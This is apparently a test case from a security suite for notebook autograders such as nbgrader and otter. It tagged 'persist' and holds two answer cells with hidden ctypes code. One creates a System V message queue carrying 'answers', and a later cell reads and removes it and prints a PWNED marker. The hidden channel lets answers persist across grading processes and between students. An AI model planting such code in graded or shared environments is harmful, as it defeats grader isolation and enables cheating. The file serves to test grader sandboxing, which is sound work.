# /// case
# about = "right answers; a message in a System V queue, received by the next notebook"
# kind = "persist"
# promise = 3
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# such queues belong to no process and to no file: only an IPC namespace ends with its notebook
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_KEY = 0x7D1F1

_queue = _libc.msgget(_KEY, 0o1666)  # IPC_CREAT
if _queue >= 0:
    _libc.msgsnd(_queue, ctypes.create_string_buffer(b"\x01" + b"\0" * 7 + b"answers", 16), 7, 0o4000)

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
# %% describe
# the next process of this grader: another notebook here, another student's in a class
import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_KEY = 0x7D1F1

_queue = _libc.msgget(_KEY, 0)
if _queue >= 0:
    _libc.msgctl(_queue, 0, None)  # IPC_RMID
    print(":".join(["PWNED", "attack/leaves_message_queue"]))

def poly_desc(W, b):
    text = " ".join(f"{w:+.2f} x^{i}" for i, w in enumerate(W.detach().flatten().tolist(), 1))
    return f"y = {text} {b.item():+.2f}"
